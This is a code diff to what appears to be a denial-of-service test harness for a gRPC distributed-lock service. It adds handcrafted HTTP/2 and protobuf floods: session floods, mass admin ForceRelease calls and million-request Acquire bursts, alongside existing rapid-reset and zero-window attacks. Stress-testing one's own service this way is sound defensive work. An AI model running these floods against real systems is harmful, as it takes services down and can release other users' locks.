@@ -44,6 +44,9 @@ def headers(method, more=(), encoder=None):
 
 ACQUIRE, LIST, SESSION, WATCH = (f"/distlock.v1.LockService/{name}"
                                  for name in ("Acquire", "ListLocks", "Session", "WatchLock"))
+FORCE_RELEASE = "/distlock.v1.AdminService/ForceRelease"
+# SessionRequest { commands { open {} } }: a session that is opened, and says nothing more.
+OPEN = b"\x0a\x04\x08\x01\x12\x00"
 # AcquireRequest { locks { namespace: "", key: "k" } }: field 1 of the request, field 2 of the lock.
 ONE_LOCK = b"\x0a\x03\x12\x01k"
 
@@ -187,13 +190,20 @@ def call(stream, block, payload, end=("END_STREAM",)):
 
 
 def calls(method, payload, more=(), count=1 << 29, after=b"", end=("END_STREAM",), stop=False):
+    """payload: the message, or makes it from the number of the call's stream."""
     block = headers(method, more)
     for stream in range(1, 2 * count, 2):
-        out = call(stream, block, payload, end)
+        out = call(stream, block, payload(stream) if callable(payload) else payload, end)
         if stop:
             out += frame(frames.RstStreamFrame, stream, error_code=8)
         yield out
     yield after
+
+
+def of_lock(number, in_a_lock):
+    """A request that names a lock of its own: in `locks`, or by `key`."""
+    key = b"\x12\x08%08d" % (number // 2)
+    return b"\x0a" + bytes([len(key)]) + key if in_a_lock else key
 
 
 def rapid_reset(method, payload):
@@ -271,10 +281,16 @@ def attack(name, target, seconds):
     elif name == "unacked-streams":
         again_and_again(report, target, lambda: calls(SESSION, b"", count=20_000, end=()))
     elif name == "window-0":
-        again_and_again(report, target, lambda: calls(SESSION, b"\x0a\x04\x08\x01\x12\x00", count=2_000, end=()), False,
+        again_and_again(report, target, lambda: calls(SESSION, OPEN, count=2_000, end=()), False,
                         {4: 0})
     elif name == "list-unread":
         again_and_again(report, target, lambda: calls(LIST, b"\x10\x64", count=2_000), False, {4: 0})
+    elif name == "sessions":
+        again_and_again(report, target, lambda: calls(SESSION, OPEN, count=20_000, end=()))
+    elif name == "force-release":
+        again_and_again(report, target, lambda: calls(FORCE_RELEASE, lambda n: of_lock(n, False), count=200_000))
+    elif name == "denied-keys":
+        again_and_again(report, target, lambda: calls(ACQUIRE, lambda n: of_lock(n, True), count=1_000_000))
     elif name == "acquire-waiting":
         again_and_again(report, target, lambda: calls(ACQUIRE, ONE_LOCK, count=10_000))
     elif name == "watch":
